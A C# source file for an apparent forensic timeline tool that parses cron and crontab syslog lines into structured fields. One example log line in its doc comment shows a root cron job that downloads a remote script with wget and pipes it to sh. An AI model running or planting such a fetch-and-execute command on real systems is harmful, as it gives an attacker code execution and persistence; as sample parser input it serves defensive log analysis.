using Timeline.Core.Vocabulary;
using Timeline.Core.Events;
using Timeline.Parsers.Linux.Syslog;

namespace Timeline.Parsers.Linux.Cron;

/// <summary>
/// cron daemon and crontab command lines (cronie on RHEL, Vixie/Debian cron). Almost every line has
/// cronie's <c>log_it()</c> shape <c>(&lt;user&gt;) &lt;EVENT&gt; (&lt;detail&gt;)</c>:
/// <code>
/// CROND[23880]: (root) CMD (wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&amp;1)
/// crond[1021]: (root) RELOAD (/var/spool/cron/root)
/// crond[1021]: (CRON) bad minute (/var/spool/cron/root)
/// crontab[2210]: (root) REPLACE (bob)          (root replaced bob's table: cron_user root, cron_target bob)
/// cron[812]: Error: bad username; while reading /etc/crontab   (Debian: no user prefix)
/// </code>
/// <c>cron_user</c> is the parenthesised user as logged (<c>root</c>, <c>*system*</c>, <c>CRON</c>).
/// The detail is taken up to the line's final ')', so commands keep their own parentheses.
/// </summary>
public sealed class CronGrammar : ISyslogMessageGrammar
{
    private static readonly string[] ErrorWords =
    [
        "BAD FILE MODE", "WRONG FILE OWNER", "WRONG INODE INFO", "ORPHAN", "ERROR", "error", "INSECURE MODE", "DEATH", "FAILED",
        "PAM ERROR", "AUTH", "CAN'T OPEN", "CAN'T LOCK", "NOT REGULAR FILE", "BAD INODE", "TOO MANY ENTRIES", "too many garbage characters",
    ];

    public string Name => "cron";
    public string EventParser => CronEvents.ParserName;
    public IReadOnlyList<string> Programs => ["CRON", "CROND", "cron", "crond", "/USR/SBIN/CRON", "/usr/sbin/cron", "/usr/sbin/crond", "crontab"];
    public IReadOnlyList<string> MessagePrefixes => [];

    public void Read(ReadOnlySpan<char> message, FieldSet fields)
    {
        var m = message.TrimEnd(' ');
        if (m.StartsWith("Error: ", StringComparison.Ordinal))
        {
            DebianError(m[7..], fields);
            return;
        }
        var close = m.IndexOf(") ");
        if (m.IsEmpty || m[0] != '(' || close < 1)
        {
            fields.Set(FieldNames.Event, CronEvents.Other);
            return;
        }
        fields.Set(FieldNames.CronUser, m[1..close].ToString());
        var rest = m[(close + 2)..];
        var open = rest.IndexOf(" (");
        var word = open < 0 ? rest : rest[..open];
        ReadOnlySpan<char> detail = [];
        if (open >= 0)
        {
            detail = rest[(open + 2)..];
            if (detail.EndsWith(')')) detail = detail[..^1];
        }
        var evt = EventOf(word);
        fields.Set(FieldNames.Event, evt);
        switch (evt)
        {
            case CronEvents.Cmd or CronEvents.CmdEnd or CronEvents.CmdOut:
                fields.Set(FieldNames.Command, detail.ToString());
                break;
            case CronEvents.Replace or CronEvents.List or CronEvents.Delete or CronEvents.BeginEdit or CronEvents.EndEdit:
                fields.Set(FieldNames.CronTarget, detail.ToString());
                break;
            case CronEvents.Reload:
                fields.Set(FieldNames.Path, detail.ToString());
                break;
            case CronEvents.Info:
                fields.Set(FieldNames.Reason, open < 0 ? word.ToString() : detail.ToString());
                break;
            // (*system*) INSECURE MODE (mode 0600 expected) (crontabs/root): prose, then the path.
            case CronEvents.Error when rest.LastIndexOf(" (") is var last && last > open && rest.EndsWith(')') && LooksLikePath(rest[(last + 2)..^1]):
                fields.Set(FieldNames.Reason, rest[..last].ToString());
                fields.Set(FieldNames.Path, rest[(last + 2)..^1].ToString());
                break;
            case CronEvents.Error when LooksLikePath(detail):
                fields.Set(FieldNames.Reason, word.ToString());
                fields.Set(FieldNames.Path, detail.ToString());
                break;
            case CronEvents.Error:
                fields.Set(FieldNames.Reason, detail.IsEmpty ? word.ToString() : string.Concat(word, ": ", detail));
                break;
        }
    }

    private static string EventOf(ReadOnlySpan<char> word) => word switch
    {
        "CMD" => CronEvents.Cmd,
        "CMDEND" => CronEvents.CmdEnd,
        "CMDOUT" => CronEvents.CmdOut,
        "REPLACE" => CronEvents.Replace,
        "LIST" => CronEvents.List,
        "DELETE" => CronEvents.Delete,
        "BEGIN EDIT" => CronEvents.BeginEdit,
        "END EDIT" => CronEvents.EndEdit,
        "RELOAD" => CronEvents.Reload,
        "INFO" or "info" or "STARTUP" or "MAIL" => CronEvents.Info,
        _ when word.StartsWith("bad ", StringComparison.Ordinal) => CronEvents.Error,
        _ when IsErrorWord(word) => CronEvents.Error,
        _ => CronEvents.Other,
    };

    private static bool IsErrorWord(ReadOnlySpan<char> word)
    {
        foreach (var known in ErrorWords)
        {
            if (word.SequenceEqual(known)) return true;
        }
        return false;
    }

    // "/var/spool/cron/root", "crontabs/root": a path, not prose ("no passwd entry").
    private static bool LooksLikePath(ReadOnlySpan<char> detail) => detail.Contains('/') && !detail.Contains(' ');

    // Error: bad username; while reading /etc/crontab
    private static void DebianError(ReadOnlySpan<char> text, FieldSet fields)
    {
        fields.Set(FieldNames.Event, CronEvents.Error);
        const string reading = "; while reading ";
        var at = text.IndexOf(reading);
        if (at < 0)
        {
            fields.Set(FieldNames.Reason, text.ToString());
            return;
        }
        fields.Set(FieldNames.Reason, text[..at].ToString());
        fields.Set(FieldNames.Path, text[(at + reading.Length)..].ToString());
    }
}
